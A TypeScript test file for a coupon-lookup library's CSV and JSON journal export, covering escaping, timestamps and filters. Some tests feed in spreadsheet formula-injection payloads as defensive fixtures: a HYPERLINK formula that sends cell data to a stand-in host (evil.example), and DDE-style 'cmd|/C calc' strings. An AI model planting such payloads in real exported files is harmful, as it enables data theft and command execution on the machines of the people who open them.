import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MOCK_CODES, type MockShopApi } from '@shop-lookup/mock-server';
import type { JournalEntry, JournalRow, ShopLookup } from '../src';
import { csvCell, csvText } from '../worker/coupon/csvText';
import { exportJournal } from '../worker/coupon/exportJournal';
import type { ShopDatabase } from '../worker/store/store';
import { lookupFor, startMock } from './utils';

/** An instant as a clock in `timeZone` shows it, by another formatter than the engine's. */
const wallClock = (ms: number, timeZone: string) =>
  new Intl.DateTimeFormat('sv-SE', {
    timeZone,
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
    hour: '2-digit',
    minute: '2-digit',
    second: '2-digit',
    hourCycle: 'h23',
  }).format(ms);

/** The rows of a CSV file this writer made (quoted cells with commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

describe('the CSV writer', () => {
  it('escapes every cell a spreadsheet would run as a formula (OWASP CSV injection), and quotes what must be', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    );
    expect(csvCell('+1+cmd|/C calc!A0')).toBe("'+1+cmd|/C calc!A0");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('A-1017, table 3')).toBe('"A-1017, table 3"');
    expect(csvCell('봄 세일')).toBe('봄 세일');
    expect(csvCell(32000)).toBe('32000');
    expect(csvCell(null)).toBe('');
  });

  it('writes a byte-order mark, a header and CRLF lines', () => {
    expect(csvText(['code', 'amount'], [['WELCOME10', 32000]])).toBe('\uFEFFcode,amount\r\nWELCOME10,32000\r\n');
  });
});

describe('exportJournal({ format, since })', () => {
  let mock: MockShopApi;
  let lookup: ShopLookup;

  beforeEach(async () => {
    mock = await startMock();
    lookup = lookupFor(mock, { timeZone: 'Europe/Berlin' });
    expect((await lookup.sync()).ok).toBe(true);
    // offline: every verdict is decided from local data and journaled
    mock.setDown(true);
    expect((await lookup.sync()).ok).toBe(false);
  });
  afterEach(async () => {
    await lookup.close();
    await mock.close();
  });

  it('one CSV row per verdict with the columns a shop reconciles by, times on the shop clock', async () => {
    await lookup.validateCoupon(MOCK_CODES.welcomeCoupon, { amount: 32000, orderId: 'A-1017' });
    await lookup.validateCoupon(MOCK_CODES.fixedCoupon, { amount: 5000, orderId: 'A-1018' });
    const entries = await lookup.offlineJournal();
    expect(entries).toHaveLength(2);

    const csv = await lookup.exportJournal({ format: 'csv', till: 'front-1' });
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(csv.slice(1));
    expect(header).toEqual([
      'time',
      'till',
      'order',
      'code',
      'amount',
      'discount',
      'reason',
      'source',
      'overrides',
      'shared',
      'conflict',
      'action',
      'claim',
      'released',
    ]);
    expect(rows).toEqual([
      [
        wallClock(entries[0]!.at, 'Europe/Berlin'),
        'front-1',
        'A-1017',
        'WELCOME10',
        '32000',
        '3200',
        '',
        'local',
        '',
        '',
        '',
        'verdict',
        '',
        '',
      ],
      [
        wallClock(entries[1]!.at, 'Europe/Berlin'),
        'front-1',
        'A-1018',
        'FIXED3000',
        '5000',
        '',
        'below_minimum',
        'local',
        '',
        '',
        '',
        'verdict',
        '',
        '',
      ],
    ]);
  });

  it('escapes formula-looking cells a host passed in (order ids, the till name): a spreadsheet shows them as text', async () => {
    const orderId = '=HYPERLINK("http://evil.example/?"&A1,"Refund")';
    await lookup.validateCoupon(MOCK_CODES.welcomeCoupon, { amount: 32000, orderId });
    await lookup.validateCoupon(MOCK_CODES.welcomeCoupon, { amount: 32000, orderId: '@SUM(1+1)*cmd|/C calc!A0' });
    const csv = await lookup.exportJournal({ format: 'csv', till: '+till-1' });
    const [, first, second] = parseCsv(csv.slice(1));
    expect(first![1]).toBe("'+till-1");
    expect(first![2]).toBe(`'${orderId}`);
    expect(second![2]).toBe("'@SUM(1+1)*cmd|/C calc!A0");
    // no cell of the file starts with a character that makes a formula
    for (const row of parseCsv(csv.slice(1))) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('only the verdicts given since a time, and JSON rows of the same columns; the till is the device id by default', async () => {
    await lookup.validateCoupon(MOCK_CODES.welcomeCoupon, { amount: 32000, orderId: 'early' });
    const [early] = await lookup.offlineJournal();
    const since = early!.at + 1;
    while (Date.now() < since) await new Promise((r) => setTimeout(r, 1));
    await lookup.validateCoupon(MOCK_CODES.welcomeCoupon, { amount: 40000, orderId: 'late' });

    const rows = JSON.parse(await lookup.exportJournal({ format: 'json', since: new Date(since) })) as JournalRow[];
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      order: 'late',
      code: 'WELCOME10',
      amount: 40000,
      discount: 4000,
      reason: null,
      source: 'local',
      overrides: [],
      shared: null,
      conflict: null,
    });
    expect(rows[0]!.till).toMatch(/^[0-9a-f]{32}$/);
    expect(JSON.parse(await lookup.exportJournal({ format: 'json' }))).toHaveLength(2);
    expect(parseCsv((await lookup.exportJournal({ format: 'csv', since })).slice(1))).toHaveLength(2);
  });

  it('rejects a format or a since it cannot use, in words', async () => {
    await expect(lookup.exportJournal({ format: 'xlsx' as never })).rejects.toMatchObject({
      code: 'bad_request',
      message: expect.stringMatching(/'csv' or 'json'/),
    });
    await expect(lookup.exportJournal({ format: 'csv', since: 'yesterday' as never })).rejects.toMatchObject({
      code: 'bad_request',
    });
  });
});

describe('exportJournal of a till on a relay that takes uses', () => {
  const at = Date.UTC(2026, 5, 1, 5, 3, 12); // 14:03:12 in Seoul
  const sale: JournalEntry = {
    id: 1,
    key: 'k1',
    code: 'IC-7F3K-2Q9M',
    kind: 'issued',
    couponCode: 'WELCOME10',
    amount: 32000,
    orderId: 'A-1017',
    orderAt: at,
    ok: true,
    reason: null,
    discount: 3200,
    syncedAt: at,
    at,
    source: 'network',
    cause: null,
    overrides: [],
    shared: at + 1_000,
    conflict: null,
    claim: 'granted',
    action: 'verdict',
    released: at + 60_000,
  };
  const release: JournalEntry = {
    ...sale,
    id: 2,
    key: 'k2',
    ok: false,
    discount: null,
    source: 'local',
    at: at + 60_000,
    shared: at + 61_000,
    claim: null,
    action: 'release',
    released: null,
  };

  it("has the claim, the release and when the sale's voucher was given back: a voided sale reads as one", async () => {
    const csv = await exportJournal(
      { format: 'csv', till: 'front-1' },
      {
        list: async ({ after = 0 }) => [sale, release].filter((e) => e.id > after),
        db: null as unknown as ShopDatabase, // (the till is named: no device id is read)
        options: { timeZone: 'Asia/Seoul' },
      },
    );
    const [header, first, second] = parseCsv(csv.slice(1));
    const cells = (row: string[]) => Object.fromEntries(header!.map((name, i) => [name, row[i]]));
    expect(cells(first!)).toMatchObject({
      time: '2026-06-01 14:03:12',
      order: 'A-1017',
      source: 'network',
      shared: '2026-06-01 14:03:13',
      action: 'verdict',
      claim: 'granted',
      released: '2026-06-01 14:04:12',
    });
    expect(cells(second!)).toMatchObject({
      time: '2026-06-01 14:04:12',
      order: 'A-1017',
      discount: '',
      action: 'release',
      claim: '',
      released: '',
    });
  });
});
